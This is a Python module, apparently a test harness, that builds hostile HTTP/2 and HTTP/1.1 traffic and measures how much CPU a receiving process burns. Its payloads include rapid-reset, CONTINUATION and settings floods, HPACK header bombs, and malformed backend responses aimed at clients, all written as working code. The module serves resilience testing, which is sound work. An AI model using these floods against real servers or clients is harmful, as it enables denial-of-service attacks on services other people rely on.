"""HTTP/2 frames of a hostile peer, and the cost for the process that receives them.

No library would build these frames. Each flood has bytes that are sent once, and bytes that are repeated until the
other side closes the connection or the time is over.
"""

import dataclasses
import os
import pathlib
import select
import socket
import time

from . import server, wire

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
ALTSVC, UNKNOWN = 0x0A, 0x77
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SECONDS = 3         # of a flood, at most; the other side needs a fraction of it
TICKS = os.sysconf("SC_CLK_TCK")


def frame(kind, flags=0, stream=0, payload=b""):
    """Return one frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def reset(stream, code=8):
    """Return a RST_STREAM."""
    return frame(RST_STREAM, 0, stream, code.to_bytes(4, "big"))


def window_update(stream, increment):
    """Return a WINDOW_UPDATE."""
    return frame(WINDOW_UPDATE, 0, stream, increment.to_bytes(4, "big"))


def settings(*entries):
    """Return SETTINGS with these (identifier, value)."""
    return frame(SETTINGS, 0, 0, b"".join(key.to_bytes(2, "big") + value.to_bytes(4, "big") for key, value in entries))


def literal(name, value, index=False):
    """Return a field without Huffman coding. Unless index is set, it is not added to the table."""
    return bytes([0x40 if index else 0]) + _string(name) + _string(value)


def _string(text):
    return _integer(len(text), 7) + text


def _integer(value, bits):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    return bytes([limit]) + wire.put_varint(value - limit)


# POST http /opentelemetry...Export of gRPC
REQUEST = (b"\x83\x86" + b"\x04" + _string(b"/opentelemetry.proto.collector.trace.v1.TraceService/Export") + b"\x01\x01a"
           + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def request(stream, end=False, block=REQUEST):
    """Return the HEADERS of a request."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def bomb(stream, references=8000, block=REQUEST, flags=END_HEADERS | END_STREAM):
    """Return a head with many references to one large entry of the table."""
    entry = literal(b"x", b"v" * 4000, index=True)
    return frame(HEADERS, flags, stream, block + entry + b"\xbe" * references)


def odd_ids(first=1):
    """Yield the stream ids of a client."""
    while True:
        yield first
        first += 2


@dataclasses.dataclass
class Flood:
    """`repeat` is bytes, or a function that returns the bytes of the next round."""

    before: bytes
    repeat: object
    reads: bool = True      # reads the other side's output


def cpu_seconds(pid):
    """Return the processor time of a process so far."""
    fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / TICKS


def _read(connection):
    """Read once. Return False if the connection was closed."""
    try:
        while select.select([connection], [], [], 0)[0]:
            if not connection.recv(1 << 20):
                return False
    except ConnectionError:
        return False
    return True


def send(connection, flood):
    """Send the flood. Return whether the other side closed the connection before the time was over."""
    end = time.monotonic() + SECONDS * server.PATIENCE
    batch = flood.repeat * max(1, 65536 // len(flood.repeat)) if isinstance(flood.repeat, bytes) else None
    connection.settimeout(0.2)
    connection.sendall(flood.before)
    time.sleep(0.2)     # meanwhile its requests are answered and its streams end
    left = memoryview(b"")
    while time.monotonic() < end:
        if flood.reads and not _read(connection):
            return True
        if not left:
            left = memoryview(batch or flood.repeat())
        try:
            left = left[connection.send(left):]
        except TimeoutError:
            continue
        except OSError:
            return True
    return False


def run(address, flood, pid):
    """Send it to HOST:PORT. Return (whether it was closed, CPU seconds of the process)."""
    host, _, port = address.rpartition(":")
    before = cpu_seconds(pid)
    with socket.create_connection((host, int(port)), 10) as connection:
        closed = send(connection, flood)
    return closed, cpu_seconds(pid) - before


def rounds(make, count=100):
    """Return a function that concatenates the next `count` results of make(stream id)."""
    ids = odd_ids()
    return lambda: b"".join(make(next(ids)) for _ in range(count))


def against_servers():
    """Return {name: Flood}. From "headers on an old stream" on, they send frames on ended streams, or almost empty
    frames."""
    start = PREFACE + settings()
    opened = start + request(1)
    over = opened + reset(1)
    ended = start + request(1, end=True)
    refused = opened + 2 * window_update(1, 0x7FFFFFFF)     # the window overflows, which costs the stream
    full = start + b"".join(request(stream) for stream in range(1, 201, 2))
    return {
        "rapid reset": Flood(start, rounds(lambda stream: request(stream) + reset(stream))),
        "provoked resets": Flood(start, rounds(lambda stream: request(stream) + 2 * window_update(stream, 0x7FFFFFFF))),
        "continuation": Flood(start + frame(HEADERS, 0, 1, REQUEST), frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100))),
        "empty continuation": Flood(start + frame(HEADERS, 0, 1, REQUEST), frame(CONTINUATION, 0, 1)),
        "large settings": Flood(start, settings(*[(0x99, 1)] * 1000)),
        "settings": Flood(start, settings()),
        "unread settings": Flood(start, settings(), reads=False),
        "ping": Flood(start, frame(PING, 0, 0, b"12345678")),
        "ping acknowledgements": Flood(start, frame(PING, ACK, 0, b"12345678")),
        "priority": Flood(start, frame(PRIORITY, 0, 1, b"\0\0\0\3\1")),
        "window update": Flood(opened, window_update(0, 1)),
        "empty data": Flood(opened, frame(DATA, 0, 1)),
        "unknown frames": Flood(start, frame(UNKNOWN, 0, 1, b"12345678")),
        "streams over the limit": Flood(full, rounds(lambda stream: request(stream + 200))),
        "header bomb": Flood(start, rounds(bomb, 1)),
        "header bomb of small fields": Flood(start, rounds(lambda stream: request(stream, True, REQUEST + b"\x90" * 200_000), 1)),
        "headers on an old stream": Flood(ended + request(3, end=True), request(1)),
        "headers on a skipped stream": Flood(start + request(5, end=True), request(3)),
        "headers on a reset stream": Flood(over, request(1)),
        "bombs on a reset stream": Flood(over, bomb(1)),
        "bombs over the limit": Flood(full, rounds(lambda stream: bomb(stream + 200), 1)),
        "data on a reset stream": Flood(over, frame(DATA, 0, 1, b"x" * 16384)),
        "data on an ended stream": Flood(ended, frame(DATA, 0, 1, b"x" * 100)),
        "data on a stream that we reset": Flood(refused, frame(DATA, 0, 1, b"x" * 16384)),
        "headers on a stream that we reset": Flood(refused, request(1)),
        "padded empty data": Flood(opened, frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255)),
        "data of one byte": Flood(opened + frame(DATA, 0, 1, b"\0\0\x3f\xff\xff"), frame(DATA, 0, 1, b"x")),
        "resets of an old stream": Flood(ended, reset(1)),
        "large unknown frames": Flood(start, frame(UNKNOWN, 0, 0, b"x" * 16384)),
        "goaway": Flood(start, frame(GOAWAY, 0, 0, b"\0" * 8)),
    }


ANSWER = b"\x88" + literal(b"content-type", b"application/grpc")
STATUS = literal(b"grpc-status", b"0")


def answer(stream, end=False):
    """Return the HEADERS of an answer; `end` completes it."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, ANSWER + (STATUS if end else b""))


def against_clients():
    """Return {name: bytes that a hostile backend repeats on the stream of the first request}."""
    entry = literal(b"x", b"v" * 4000, index=True)
    return {
        "RST_STREAM": reset(1),
        "PRIORITY": frame(PRIORITY, 0, 1, b"\0\0\0\3\1"),
        "WINDOW_UPDATE": window_update(0, 1),
        "unknown frames": frame(UNKNOWN, 0, 1, b"12345678"),
        "ALTSVC": frame(ALTSVC, 0, 0, b"\0\1a" + b"h2=x"),
        "empty DATA": frame(DATA, 0, 1),
        "padded empty DATA": frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255),
        "DATA of one byte": frame(DATA, 0, 1, b"x"),
        "informational answers": frame(HEADERS, END_HEADERS, 1, b"\x08\x03103"),
        "header bombs": frame(HEADERS, END_HEADERS, 1, entry + b"\xbe" * 8000),
        "PING": frame(PING, 0, 0, b"12345678"),
        "PING acknowledgements": frame(PING, ACK, 0, b"12345678"),
        "SETTINGS": settings(),
        "GOAWAY": frame(GOAWAY, 0, 0, b"\x7f\xff\xff\xff" + b"\0" * 4),
        "CONTINUATION": frame(HEADERS, 0, 1, b"\x08\x03103") + frame(CONTINUATION, 0, 1) * 1000,
        "frames on an idle stream": frame(DATA, 0, 101, b"x"),
    }


def against_http1_clients():
    """Return {name: (bytes that a hostile backend sends once, bytes that it repeats)}."""
    chunked = b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n"
    whole = b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n"
    return {
        "line ends before an answer": (b"", b"\r\n" * 1000),
        "informational answers": (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
        "headers": (b"HTTP/1.1 200 OK\r\n", b"a: b\r\n"),
        "a header": (b"HTTP/1.1 200 OK\r\na: ", b"b" * 1000),
        "chunks of one byte": (chunked, b"1\r\nx\r\n"),
        "an extension of a chunk": (chunked + b"1;", b"a" * 1000),
        "trailers": (chunked + b"0\r\n", b"a: b\r\n"),
        "line ends after an answer": (whole, b"\r\n" * 1000),
        "answers after an answer": (whole, whole),
    }
